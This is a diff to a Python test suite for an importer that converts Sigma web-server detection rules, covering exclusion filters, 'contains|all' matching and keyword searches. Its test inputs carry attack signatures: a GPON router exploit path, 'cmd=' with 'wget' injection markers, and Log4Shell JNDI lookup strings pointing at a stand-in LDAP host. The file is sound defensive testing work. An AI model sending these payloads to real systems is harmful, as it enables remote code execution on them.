@@ -108,9 +108,11 @@ REFUSED = [
     ("logsource: {category: webserver}\n", "sel:\n    cs-cookie: x\n", "sel",
      "'cs-cookie' has no wormsign equivalent", 7),
     ("logsource: {category: webserver}\n", "sel:\n    c-uri|contains: x\n  f:\n"
-     "    cs-method: GET\n", "sel and not f", "'not' cannot be expressed", 10),
-    ("logsource: {category: webserver}\n", "kw:\n    - 'jndi:ldap'\n", "kw",
-     "keyword (field-less) search", 6),
+     "    cs-method: GET\n", "sel or not f", "this 'not' cannot be expressed", 10),
+    ("logsource: {category: webserver}\n", "f:\n    cs-method: GET\n", "not f",
+     "only a 'not' cannot be expressed", 8),
+    ("logsource: {category: webserver}\n", "sel:\n    c-uri|contains|all: [ab, bc, cd]\n",
+     "sel", "cannot be expressed without look-ahead", 5),
     ("logsource: {category: webserver}\n", "sel:\n    c-ip|cidr: 10.0.0.0/8\n", "sel",
      "has no wormsign equivalent", 7),
     ("logsource: {category: webserver}\n", "sel:\n    sc-status|gt: 400\n", "sel",
@@ -129,6 +131,45 @@ def test_what_cannot_be_expressed_is_refused_with_reason_and_line(
     (problem,) = result.refused
     assert reason in problem.message and "refused one" in problem.message
     assert problem.path == "bad.yml" and problem.line == line, (problem, text)
+
+
+def test_selection_and_not_filter_is_an_exclusion() -> None:
+    text = GPON.replace("  condition: selection", "  filter:\n    c-useragent|contains: "
+                        "Nessus\n  condition: selection and not filter")
+    result = import_text(text, "f.yml")
+    assert result.refused == ()
+    (rule,) = result.rules
+    assert rule.exclude and rule.exclude[0][0].field == "user_agent"
+    assert rule.matches(_req("/GponForm/diag_Form?images/", "POST", ua="curl"))
+    assert not rule.matches(_req("/GponForm/diag_Form?images/", "POST", ua="Nessus SOAP"))
+
+
+@pytest.mark.parametrize(("values", "hit", "miss"), [
+    (["cmd=", "wget"], ["/a?cmd=x&wget", "/a?WGET&cmd=1"], ["/a?cmd=1", "/a?wget"]),
+    (["ab", "bc"], ["/abc", "/bc-ab", "/ab/bc"], ["/ab", "/ac", "/b"]),  # overlap: abc
+    (["abc", "b"], ["/xabcx"], ["/b", "/ac"]),  # one inside the other
+    (["a1", "b2", "c3"], ["/c3b2a1", "/a1/b2/c3"], ["/a1b2", "/a1c3"]),
+])
+def test_contains_all_is_exact(values: list[str], hit: list[str], miss: list[str]) -> None:
+    text = ("title: all\nlogsource: {category: webserver}\ndetection:\n  sel:\n"
+            f"    c-uri|contains|all: {values}\n  condition: sel\nlevel: low\n")
+    result = import_text(text, "all.yml")
+    assert result.refused == ()
+    (rule,) = result.rules
+    assert all(rule.matches(_req(u)) for u in hit), hit
+    assert not any(rule.matches(_req(u)) for u in miss), miss
+
+
+def test_keywords_in_access_logs_search_the_request_fields_with_a_warning() -> None:
+    text = ("title: log4shell keywords\nlogsource: {category: webserver}\ndetection:\n"
+            "  keywords:\n    - '${jndi:ldap:/'\n  condition: keywords\nlevel: high\n")
+    result = import_text(text, "k.yml")
+    (rule,) = result.rules
+    (warning,) = result.warnings
+    assert "keyword" in warning.message and warning.line == 1
+    assert rule.matches(_req("/", ua="${jndi:ldap://198.51.100.1/a}"))
+    assert rule.matches(_req("/?x=${JNDI:LDAP://x}"))
+    assert not rule.matches(_req("/index.html", ua="Mozilla/5.0"))
 
 
 def test_one_bad_rule_does_not_stop_the_others() -> None:
